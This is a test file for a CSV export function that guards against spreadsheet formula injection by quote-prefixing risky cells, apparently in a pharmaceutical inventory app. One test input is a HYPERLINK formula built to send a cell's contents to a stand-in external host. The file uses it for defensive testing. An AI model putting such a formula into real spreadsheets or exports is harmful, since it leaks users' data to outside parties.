import { csvRecord, exportCell } from './export-cells';

describe('export cells (formula injection)', () => {
  it('prefixes text a spreadsheet would run as a formula with a single quote', () => {
    for (const text of ['=HYPERLINK("http://x.example/?d="&A1,"ver")', '+1', '-2', '@SUM(1)', '\t=1+2', '\r=1+2']) {
      expect(exportCell(text)).toBe(`'${text}`);
    }
  });

  it('leaves other text, numbers (negative ones too) and empty cells as they are', () => {
    expect(exportCell('PARACETAMOL 500 mg = 1 tableta')).toBe('PARACETAMOL 500 mg = 1 tableta');
    expect(exportCell(' =1+2')).toBe(' =1+2');
    expect(exportCell('')).toBe('');
    expect(exportCell(-5)).toBe(-5);
    expect(exportCell(0)).toBe(0);
    expect(exportCell(null)).toBe('');
    expect(exportCell(undefined)).toBe('');
  });

  it('writes CSV records whose every cell is read as text or as the number it is', () => {
    expect(csvRecord(['010.000.0104.00', 'PARACETAMOL', 1240, 3100])).toBe('010.000.0104.00,PARACETAMOL,1240,3100');
    expect(csvRecord(['-5', -5, null])).toBe(`"'-5",-5,`);
    expect(csvRecord(['=1+2";=1+2'])).toBe(`"'=1+2"";=1+2"`);
    expect(csvRecord(['@SUM(1)', '+1'])).toBe(`"'@SUM(1)","'+1"`);
    // A separator or a line break inside a value cannot start a new cell that begins with '='.
    expect(csvRecord(['a,=1+2', 'b;=1+2', 'c\n=1+2', 'd\t=1+2'])).toBe('"a,=1+2","b;=1+2","c\n=1+2","d\t=1+2"');
    expect(csvRecord(['5\'-ADENOSINA'])).toBe(`"5'-ADENOSINA"`);
  });
});
